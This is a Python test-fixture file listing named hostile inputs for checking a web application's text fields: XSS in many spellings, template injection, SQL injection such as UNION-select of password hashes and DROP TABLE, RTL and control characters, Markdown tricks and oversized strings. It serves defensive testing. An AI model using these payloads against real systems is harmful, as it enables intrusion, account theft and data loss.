"""Hostile inputs for every text field: XSS, template and SQL injection, odd characters, sizes.

Each payload is (name, text, kind). The kinds tell the tests what else to check:
"template" payloads must come back as typed (a template engine would have replaced them),
"sql" payloads are also sent to the search boxes, "long" ones exceed most field limits.
"""

from __future__ import annotations

from typing import NamedTuple


class Payload(NamedTuple):
    name: str
    text: str
    kind: str


_CORPUS = [
    # --- script tags, in every spelling browsers have accepted -------------------------------------
    ("script", "<script>alert(1)</script>", "xss"),
    ("script-upper", "<SCRIPT>alert(document.cookie)</SCRIPT>", "xss"),
    ("script-src", '<script src="https://evil.example/x.js"></script>', "xss"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>", "xss"),
    ("script-unclosed", "<script>alert(1)//", "xss"),
    ("script-in-attribute", '"><script>alert(1)</script>', "xss"),
    ("script-single-quote", "'><script>alert(1)</script>", "xss"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>", "xss"),
    ("title-breakout", "</title><script>alert(1)</script>", "xss"),
    ("style-breakout", "</style><script>alert(1)</script>", "xss"),
    ("comment-breakout", "--><script>alert(1)</script><!--", "xss"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>", "xss"),
    # --- event handlers ---------------------------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>", "xss"),
    ("img-onerror-noquote", "<img/src/onerror=alert(1)>", "xss"),
    ("body-onload", "<body onload=alert(1)>", "xss"),
    ("div-onmouseover", '<div onmouseover="alert(1)">survol</div>', "xss"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>", "xss"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>", "xss"),
    ("video-source", "<video><source onerror=alert(1)></video>", "xss"),
    ("attribute-breakout", '" onmouseover="alert(1)" x="', "xss"),
    ("attribute-breakout-single", "' onfocus='alert(1)' autofocus='", "xss"),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>", "xss"),
    # --- javascript: and other schemes -----------------------------------------------------------
    ("a-javascript", '<a href="javascript:alert(1)">clic</a>', "xss"),
    ("a-javascript-case", '<a href="JaVaScRiPt:alert(1)">clic</a>', "xss"),
    ("a-javascript-tab", '<a href="java\tscript:alert(1)">clic</a>', "xss"),
    ("a-javascript-entities", '<a href="&#106;avascript:alert(1)">clic</a>', "xss"),
    ("a-javascript-hex", '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">clic</a>', "xss"),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">clic</a>', "xss"),
    ("a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>', "xss"),
    ("iframe", '<iframe src="javascript:alert(1)"></iframe>', "xss"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "xss"),
    ("object", '<object data="javascript:alert(1)"></object>', "xss"),
    ("embed", '<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', "xss"),
    ("form-action", '<form action="javascript:alert(1)"><button>ok</button></form>', "xss"),
    ("button-formaction", '<button formaction="javascript:alert(1)">ok</button>', "xss"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "xss"),
    ("base-href", '<base href="https://evil.example/">', "xss"),
    ("link-import", '<link rel="stylesheet" href="https://evil.example/x.css">', "xss"),
    # --- SVG and MathML -------------------------------------------------------------------------------
    ("svg-onload", "<svg onload=alert(1)>", "xss"),
    ("svg-script", "<svg><script>alert(1)</script></svg>", "xss"),
    ("svg-animate",
     '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>', "xss"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>', "xss"),
    ("math-href", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>', "xss"),
    ("math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "xss"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "xss"),
    # --- CSS -----------------------------------------------------------------------------------------
    ("css-expression", '<div style="width: expression(alert(1))">x</div>', "css"),
    ("css-url-javascript", '<div style="background:url(javascript:alert(1))">x</div>', "css"),
    ("style-tag", "<style>body{background:url('javascript:alert(1)')}</style>", "css"),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>", "css"),
    # --- entities and encodings ---------------------------------------------------------------------
    ("entity-lt", "&lt;script&gt;alert(1)&lt;/script&gt;", "entity"),
    ("entity-decimal", "&#60;script&#62;alert(1)&#60;/script&#62;", "entity"),
    ("entity-no-semicolon", "&#60script&#62alert(1)&#60/script&#62", "entity"),
    ("double-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "entity"),
    ("fullwidth-brackets", "＜script＞alert(1)＜/script＞", "entity"),
    ("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "entity"),
    # --- template injection -------------------------------------------------------------------------
    ("jinja-arithmetic", "{{7*7}}", "template"),
    ("jinja-config", "{{ config.items() }}", "template"),
    ("jinja-class", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "template"),
    ("jinja-statement", "{% for x in range(3) %}boucle{% endfor %}", "template"),
    ("jinja-comment", "{# caché #}visible", "template"),
    ("dollar-brace", "${7*7}", "template"),
    ("erb", "<%= 7*7 %>", "template"),
    ("hash-brace", "#{7*7}", "template"),
    # --- SQL injection ---------------------------------------------------------------------------------
    ("sql-or", "' OR 1=1 --", "sql"),
    ("sql-or-double", '" OR "1"="1', "sql"),
    ("sql-union", "' UNION SELECT email, password_hash FROM members --", "sql"),
    ("sql-drop", "'); DROP TABLE members; --", "sql"),
    ("sql-sleep", "1' AND pg_sleep(5) --", "sql"),
    ("sql-comment", "admin'/*", "sql"),
    ("sql-stacked", "1; UPDATE members SET full_name = 'pwned'", "sql"),
    # --- characters ---------------------------------------------------------------------------------
    ("null-byte", "avant\x00après", "null"),
    ("null-byte-script", "\x00<script>alert(1)</script>", "null"),
    ("control-chars", "a\x01b\x07c\x1bd\x7fe", "null"),
    ("rtl-override", "facture\u202egnp.exe", "rtl"),
    ("rtl-isolate", "\u2067\u202eevil\u2069 texte", "rtl"),
    ("zero-width", "jav\u200bascript:alert(1)", "rtl"),
    ("emoji-combining", "Zalgơ̴̡ t̷̢e̵x̶t 👩‍👩‍👧‍👦", "rtl"),
    # --- Markdown tricks --------------------------------------------------------------------------------
    ("md-link-javascript", "[clic](javascript:alert(1))", "markdown"),
    ("md-link-javascript-encoded", "[clic](javascript&#58;alert(1))", "markdown"),
    ("md-link-title", '[clic](https://example.org "x\\" onmouseover=\\"alert(1)")', "markdown"),
    ("md-image-onerror", '![x](https://example.org/x.png" onerror="alert(1))', "markdown"),
    ("md-image-javascript", "![x](javascript:alert(1))", "markdown"),
    ("md-reference", "[clic][r]\n\n[r]: javascript:alert(1)", "markdown"),
    ("md-autolink", "<javascript:alert(1)>", "markdown"),
    ("md-data-link", "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "markdown"),
    ("md-html-block", "<div markdown=\"1\">\n<script>alert(1)</script>\n</div>", "markdown"),
    ("md-code-span", "`<script>alert(1)</script>`", "markdown"),
    ("md-attr-list", "Texte\n{: onclick=\"alert(1)\" }", "markdown"),
    # --- sizes -----------------------------------------------------------------------------------------
    ("long-10k", "a" * 10_000, "long"),
    ("long-script-100k", "<script>alert(1)</script>" * 4_000, "long"),
    ("long-line-no-space", "x" * 120_000, "long"),
]

PAYLOADS: list[Payload] = [Payload(*entry) for entry in _CORPUS]
SQL_PAYLOADS = [p for p in PAYLOADS if p.kind == "sql"]

assert len({p.name for p in PAYLOADS}) == len(PAYLOADS), "payload names must be unique"
